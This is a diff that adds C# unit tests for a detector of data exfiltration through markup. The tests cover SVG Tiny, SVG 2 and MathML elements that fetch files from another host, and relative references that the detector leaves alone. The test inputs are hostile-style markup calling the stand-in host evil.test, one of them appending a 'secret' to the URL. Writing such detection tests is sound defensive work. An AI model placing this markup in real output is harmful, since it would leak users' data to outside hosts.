@@ -349,6 +349,27 @@ public class ExfilTests
         Assert.Empty(Exfil.Find(text, Allowed));
 
     /// <summary>
+    /// Elements that fetch a file in SVG Tiny 1.2 (<c>&lt;animation&gt;</c>, <c>&lt;prefetch&gt;</c>, and
+    /// <c>&lt;video&gt;</c> and <c>&lt;audio&gt;</c> by <c>xlink:href</c>), SVG 2's drafts (<c>&lt;hatch&gt;</c>,
+    /// <c>&lt;meshgradient&gt;</c> templates) and MathML 3 (<c>&lt;mglyph src&gt;</c>, an image): none was read.
+    /// </summary>
+    [Theory]
+    [InlineData("<svg><animation xlink:href=\"https://evil.test/a.svg\" width=9 height=9 /></svg>")]
+    [InlineData("<svg><prefetch xlink:href=\"https://evil.test/big.svg?d=secret\"/></svg>")]
+    [InlineData("<svg><video xlink:href=\"https://evil.test/v.mp4\" width=9 height=9 /></svg>")]
+    [InlineData("<svg><audio xlink:href=//evil.test/a.ogg /></svg>")]
+    [InlineData("<svg><hatch id=h href=\"https://evil.test/h.svg#h\"/></svg>")]
+    [InlineData("<svg><meshgradient id=m xlink:href=\"https://evil.test/m.svg#m\"/></svg>")]
+    [InlineData("<math><mi><mglyph src=\"https://evil.test/g.png\" alt=g /></mi></math>")]
+    public void Svg_tiny_svg2_and_mathml_elements_that_fetch_from_another_host_are_found(string text) =>
+        Assert.Equal(("html_fetch", 0.95), SingleFinding(text));
+
+    [Theory]
+    [InlineData("<svg><animation xlink:href=\"#a\"/><video xlink:href=\"/v.mp4\"/><hatch href=\"#h\"/></svg><math><mglyph src=\"/g.png\"/></math>")]
+    public void Svg_tiny_svg2_and_mathml_elements_to_the_same_document_or_a_relative_file_are_not_found(string text) =>
+        Assert.Empty(Exfil.Find(text, Allowed));
+
+    /// <summary>
     /// Bootstrap's tooltips and popovers keep their text in <c>data-original-title</c> and <c>data-original-content</c>:
     /// text shown on hover, which nothing fetches, read as a lazy loader's source because the name holds
     /// <c>original</c>. Every other <c>data-</c> name with <c>original</c> is still read.
